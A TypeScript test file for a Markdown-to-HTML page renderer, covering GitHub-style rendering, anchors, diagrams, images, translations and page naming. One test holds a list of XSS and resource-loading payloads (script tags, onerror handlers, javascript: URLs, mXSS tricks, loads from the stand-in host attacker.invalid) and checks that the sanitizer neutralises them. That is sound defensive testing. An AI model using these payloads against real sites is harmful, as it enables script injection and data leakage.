import assert from 'node:assert/strict'
import { test } from 'node:test'
import { writeIndex } from '../../src/page/indexPage.ts'
import { readPage } from '../../src/page/page.ts'
import { addressOf, namePages } from '../../src/page/pageNames.ts'
import type { PageParts } from '../../src/page/protocol.ts'

const nothing: PageParts = { name: 'orders.md', drawings: [], images: {}, links: {} }
const pageOf = (text: string, parts: Partial<PageParts> = {}) =>
  readPage(
    text,
    (parts.drawings ?? []).map(({ start }) => start),
  ).write({ ...nothing, ...parts })
/** The content of the page without its table of contents. */
const bodyOf = (text: string, parts: Partial<PageParts> = {}) =>
  (/<main>([\s\S]*)<\/main>/.exec(pageOf(text, parts))?.[1] ?? '').replace(/<nav[\s\S]*?<\/nav>/, '')

test('a page renders tables, tasks, footnotes, alerts, bare URLs and HTML as GitHub does', () => {
  const body = bodyOf(`| a | b |
|---|--:|
| 1<br>2 | \`x\` |

- [x] done

> [!WARNING]
> Hot *water*

> [!WARNING] is none

See https://example.com [^1] and H<sub>2</sub>O.

<details><summary>More</summary>

**Inside**

</details>

[^1]: The note.
`)
  for (const part of [
    '<td>1<br>2</td>\n<td align="right"><code>x</code></td>',
    '<input type="checkbox" checked disabled> done',
    '<div class="markdown-alert markdown-alert-warning">\n<p class="markdown-alert-title">Warning</p>\n<p>Hot <em>water</em></p>\n</div>',
    '<blockquote>\n<p>[!WARNING] is none</p>\n</blockquote>',
    '<a href="https://example.com" rel="noreferrer">https://example.com</a>',
    'H<sub>2</sub>O',
    '<details><summary>More</summary>\n<p><strong>Inside</strong></p>\n</details>',
    'href="#user-content-fn-1"',
    '<li id="user-content-fn-1">\n<p>The note.',
  ])
    assert.ok(body.includes(part), `${part} in ${body}`)
})

test('front matter becomes a table, with nested maps as JSON', () => {
  const body = bodyOf('---\ntitle: "<b>"\nowners: [Ann, Bob]\nwhen: 2026-11-20\nmore: { a: 1 }\nnone:\n---\n\nText\n')
  assert.ok(body.startsWith('<table class="front"><tbody><tr><th scope="row">title</th><td>&#x3C;b></td></tr>'), body)
  assert.match(
    body,
    /<td>Ann, Bob<\/td>.*<td>2026-11-20<\/td>.*<td>\{"a":1\}<\/td>.*<th scope="row">none<\/th><td><\/td>/,
  )
})

test('headings have the same anchors as on GitHub; the table of contents and links lead to them', () => {
  const text = `# Orders\n\n[one](#data--flow) [two](#Data--Flow) [none](#nowhere) [named](#old) <a name="old"></a>\n
## Data & Flow\n\n### *Deep* \`x\`\n\n#### Deeper\n\n## Data & Flow\n\n## Ende – Übersicht\n`
  const page = pageOf(text)
  assert.match(page, /<main><h1[^>]*>[\s\S]*?<\/h1>\s*<nav/)
  const [, contents = ''] = /<nav[^>]*>([\s\S]*?)<\/nav>/.exec(page) ?? []
  assert.deepEqual(
    Array.from(contents.matchAll(/href="([^"]*)">([^<]*)</g), ([, href, title]) => `${href} ${title}`),
    [
      '#data--flow Data &#x26; Flow',
      '#deep-x Deep x',
      '#data--flow-1 Data &#x26; Flow',
      '#ende--übersicht Ende – Übersicht',
    ],
  )
  for (const [, id] of contents.matchAll(/href="#([^"]*)"/g)) assert.ok(page.includes(` id="${id}"`), id)
  assert.match(
    page,
    /<a href="#data--flow">one<\/a> <a href="#data--flow">two<\/a> <span class="dead" title="#nowhere">none<\/span>/,
  )
  assert.match(page, /<a href="#old">named<\/a>/)
  assert.match(page, /<title>Orders<\/title>/)
  assert.doesNotMatch(pageOf('# One\n\n## Two\n'), /<nav/)
})

const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="120.4" height="60"><text>100% "a" #b</text></svg>'

test('a diagram becomes an image for light and one for dark themes, or its source with the reason', () => {
  const text = '# X\n\n```mermaid\na <b>\n```\n\n- ```dot\n  digraph {}\n  ```\n'
  const drawings = [
    { start: text.indexOf('```mermaid'), light: svg, dark: svg.replace('60', '61'), alt: 'X: "a" leads to b' },
    { start: text.indexOf('```dot'), alt: 'Y', error: 'it is <broken>' },
  ]
  const body = bodyOf(text, { drawings })
  const address = (picture: string) => `data:image/svg+xml,${encodeURIComponent(picture)}`
  assert.ok(
    body.includes(
      `<figure class="diagram"><picture><source media="screen and (prefers-color-scheme: dark)" srcset="${address(svg.replace('60', '61'))}">` +
        `<img alt="X: &#x22;a&#x22; leads to b" src="${address(svg)}" width="120" height="60"></picture></figure>`,
    ),
    body,
  )
  assert.match(body, /<p>This diagram is not drawn: it is &#x3C;broken>\.<\/p><pre><code>digraph \{\}<\/code><\/pre>/)
  assert.doesNotMatch(body, /a &#x3C;b>/)
  assert.match(bodyOf(text), /<pre><code class="language-mermaid">a &#x3C;b>\n<\/code><\/pre>/)
})

test('each image and linked file is requested once, and missing ones become text', () => {
  const text = `![Map](images/map.png) ![Map](images/map.png) ![far](https://example.com/x.png) [![ci](https://ci/x.svg)](https://ci)

[other](other.md#part) [gone](gone.md)

<picture><source media="(prefers-color-scheme: dark)" srcset="images/dark.png"><img src="images/map.png" alt="Both"></picture>
`
  const { needs, write } = readPage(text, [])
  assert.deepEqual(
    { images: needs.images.toSorted(), links: needs.links.toSorted() },
    { images: ['images/dark.png', 'images/map.png'], links: ['gone.md', 'other.md#part'] },
  )
  const data = 'data:image/png;base64,AAAA'
  const body = write({
    ...nothing,
    images: { 'images/map.png': data, 'images/dark.png': `${data}2` },
    links: { 'other.md#part': 'other.html#part' },
  })
  for (const part of [
    `<img src="${data}" alt="Map">`,
    '<a href="https://example.com/x.png" rel="noreferrer">far</a>',
    '<a href="https://ci" rel="noreferrer">ci</a>',
    '<a href="other.html#part">other</a>',
    '<span class="dead" title="gone.md">gone</span>',
    `srcset="${data}2"`,
  ])
    assert.ok(body.includes(part), `${part} in ${body}`)
  assert.match(
    bodyOf(text),
    /<picture><span class="missing" title="images\/map.png">\[Picture: Both\]<\/span><\/picture>/,
  )
  // An answer with another kind of URL is not used.
  assert.doesNotMatch(bodyOf(text, { images: { 'images/map.png': 'https://example.com/y.png' } }), /y\.png/)
})

test('findings are listed below the document, each with a link to its section', () => {
  const text = '# X\n\n## Goals\n\nfast\n'
  const finding = { severity: 'warning', reason: '`<fast>` cannot be tested', line: 5, start: text.indexOf('fast') }
  assert.match(
    bodyOf(text, { findings: [finding] }),
    /<tr><td>warning<\/td><td><code>&#x3C;fast><\/code> cannot be tested<\/td><td><a href="#goals">Goals<\/a><\/td><td>5<\/td><\/tr>/,
  )
  assert.match(bodyOf(text, { findings: [] }), /No findings/)
  assert.doesNotMatch(pageOf(text), /Findings/)
})

/** Markup with which a document would run, load or send something, or escape its place. */
const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src="https://attacker.invalid/x.js"></sCrIpT>',
  '<script>x</script\n>',
  '</main></body><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://attacker.invalid/x.png" srcset="https://attacker.invalid/y.png 2x">',
  '<picture><source srcset="https://attacker.invalid/x.png"><img src="//attacker.invalid/x.png"></picture>',
  '<svg onload=alert(1)><style>@import "https://attacker.invalid/x.css"</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://attacker.invalid" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://attacker.invalid/x"></object><embed src="https://attacker.invalid/x">',
  '<link rel="stylesheet" href="https://attacker.invalid/x.css"><base href="https://attacker.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
  '<form action="https://attacker.invalid/"><input name="x"><button formaction="https://attacker.invalid/">a</button></form>',
  '<style>body { background: url(https://attacker.invalid/x.png) }</style>',
  '<p style="background: url(https://attacker.invalid/x.png)" onclick="alert(1)">a</p>',
  '<table background="https://attacker.invalid/x.png"><tr><td background="https://attacker.invalid/x.png">a</td></tr></table>',
  '<video poster="https://attacker.invalid/x.png" src="https://attacker.invalid/x.mp4"></video><audio src="https://attacker.invalid/x"></audio>',
  '<a href="javascript:alert(1)">a</a> <a href="JaVaScRiPt:alert(1)">a</a> <a href="java&#9;script:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a> <a href="&#1;javascript:alert(1)">a</a> <a href="vbscript:x">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a> <a href="file:///etc/passwd">a</a> <a href="vscode://x">a</a>',
  '<a href="\\\\attacker.invalid\\x">a</a> <a href="//attacker.invalid/x">a</a> <a href="/\\attacker.invalid">a</a>',
  '<a ping="https://attacker.invalid/" href="https://example.com" target="_blank">a</a>',
  '[a](javascript:alert(1)) [b](<java\tscript:alert(1)>) [c](data:text/html,x) [d](vscode:extension/x) <javascript:alert(1)>',
  '![a](javascript:alert(1)) ![b](data:text/html,x) ![c](data:image/svg+xml,<svg/onload=alert(1)>)',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template><plaintext><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>a</details>',
  '```html" onload="alert(1)\na\n```',
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: a',
  '# <script>alert(1)</script> "onload=alert(1)\n\n## a\n\n## b\n\n## c',
  '---\n"<script>alert(1)</script>": <img src=x onerror=alert(1)>\n---\n\na',
  '> [!NOTE]<script>alert(1)</script>\n> a',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
]

/** The tags and declarations in a page that a browser would recognise. */
const tagsOf = (html: string) => html.match(/<[a-z!/](?:[^"'>]|"[^"]*"|'[^']*')*>/gi) ?? []

const offers = new Set(
  'a abbr b blockquote body br code dd del details div dl dt em figure h1 h2 h3 h4 h5 h6 head hr html i img input ins kbd li main meta nav ol p picture pre s section small source span strong style sub summary sup table tbody td th thead title tr ul var'.split(
    ' ',
  ),
)

test('a hostile document becomes a page that runs no script, loads nothing and sends nothing', () => {
  const wraps = [
    (text: string) => text,
    (text: string) => `- ${text.replaceAll('\n', '\n  ')}`,
    (text: string) => `a\n\n${text}\n\nb`,
  ]
  for (const text of hostile.flatMap((each) => wraps.map((wrap) => wrap(each)))) {
    const page = pageOf(text, { findings: [{ severity: 'warning', reason: text, line: 1, start: 0 }] })
    const found = tagsOf(page.replace(/<style>[\s\S]*?<\/style>/, '<style></style>'))
    for (const tag of found) {
      const name = /^<\/?([a-z0-9]+)/i.exec(tag)?.[1]
      if (name) assert.ok(offers.has(name), `${tag} of ${text}`)
      const attributes = tag.replace(/"[^"]*"/g, '""')
      assert.doesNotMatch(
        attributes,
        /\s(?:on\w+|style|srcdoc|formaction|action|ping|background|poster|target|data)=/i,
        `${tag} of ${text}`,
      )
      if (name !== 'meta') assert.doesNotMatch(tag, /\s(?:src|srcset)="(?!data:image\/)/i, `${tag} of ${text}`)
      assert.doesNotMatch(tag, /\shref="(?!#|https?:\/\/|mailto:)/i, `${tag} of ${text}`)
    }
    assert.equal(found.filter((tag) => tag === '</body>').length, 1, text)
    assert.equal(found.filter((tag) => /^<meta\b.*Content-Security-Policy/.test(tag)).length, 1)
    assert.match(
      page.replaceAll('&#x27;', "'"),
      /content="default-src 'none'; style-src 'unsafe-inline'; img-src data:;/,
    )
  }
})

test('the language of a fence cannot refer to another diagram’s drawing, and a broken drawing stays an image', () => {
  const text = '```mermaid\na\n```\n\n```drawing-0\nx\n```\n'
  const body = bodyOf(text, {
    drawings: [{ start: 0, light: '<svg>"><script>alert(1)</script>\uD800', alt: '"><script>' }],
  })
  assert.equal(body.match(/<figure/g)?.length, 1)
  assert.ok(!tagsOf(body).some((tag) => tag.startsWith('<script')))
})

test('HTML that would take more than linear time to parse is shown as text', () => {
  const dear = [
    '<font size="1">'.repeat(400) + '\n\na'.repeat(400),
    '<div>'.repeat(500),
    Array.from({ length: 500 }, (_, at) => `<font size="${at}"><p>`).join(''),
    '<details>\n\n'.repeat(300),
  ]
  for (const text of dear) assert.match(bodyOf(text), /&#x3C;(?:font|div|details)/)
  const cheap = `${'<b>a</b> '.repeat(50)}\n\n`.repeat(60)
  assert.doesNotMatch(bodyOf(cheap), /&#x3C;/)
})

test('pages are named after their documents, with unique names even if case is ignored', () => {
  const { pages, index } = namePages(['Index.md', 'a/b.md', 'a/B.markdown', 'a/b-2.md'])
  assert.deepEqual([...pages.values()], ['Index.html', 'a/b.html', 'a/B-2.html', 'a/b-2-2.html'])
  assert.equal(index, 'index-2.html')
  assert.equal(addressOf('c d/#x.html', 'a/b.html'), '../c%20d/%23x.html')
  assert.equal(addressOf('a/c.html', 'a/b.html'), 'c.html')
  assert.equal(addressOf('index.html', 'a/b.html'), '../index.html')
})

test('the index page is grouped by folder and escapes titles', () => {
  const entry = { address: 'a/b.html', title: '<Orders>', path: 'a/b.md', notes: ['accepted'] }
  const page = writeIndex('docs', [entry, { ...entry, address: 'c.html', title: 'c.md', path: 'c.md', notes: [] }])
  assert.match(page, /<h1>docs<\/h1><ul class="index"><li><a href="c.html">c.md<\/a><\/li><\/ul><h2>a<\/h2>/)
  assert.match(page, /<a href="a\/b.html">&#x3C;Orders><\/a> <small>b.md · accepted<\/small>/)
})

test('a page uses the translated words and the `lang` of its document', () => {
  const text =
    '# Plan\n\n> [!NOTE]\n> Kurz\n\n## A\n\n## B\n\n## C\n\n```mermaid\npie\n```\n\n![Karte](karte.png) [^1]\n\n[^1]: Eins\n'
  const words = {
    Contents: 'Inhalt',
    Note: 'Hinweis',
    Footnotes: 'Fußnoten',
    'Back to reference {0}': 'Zurück zu Verweis {0}',
    Findings: 'Befunde',
    'No findings.': 'Nichts wurde gefunden.',
    'All documents': 'Alle Dokumente',
    'Link to this section': 'Link zu diesem Abschnitt',
    'This diagram is not drawn: {0}.': 'Dieses Diagramm ist nicht gezeichnet: {0}.',
    '[Picture: {0}]': '[Bild: {0}]',
  }
  const at = text.indexOf('```')
  const drawings = [{ start: at, alt: '', error: 'zu groß' }]
  const parts = { ...nothing, drawings, findings: [], index: 'index.html' }
  const html = readPage(text, [at], { language: 'de', words }).write(parts)
  assert.match(html, /<html lang="de">/)
  for (const said of Object.values(words)) assert.ok(html.includes(said.replace('{0}', '')) || /\{0\}/.test(said), said)
  assert.match(html, /Dieses Diagramm ist nicht gezeichnet: zu groß\./)
  assert.match(html, /\[Bild: Karte\]/)
  for (const english of Object.keys(words)) assert.ok(!html.includes(english.replace(/: \{0\}.*/, '')), english)
  assert.match(readPage(text, []).write(nothing), /<html>[\s\S]*>Contents</)
})
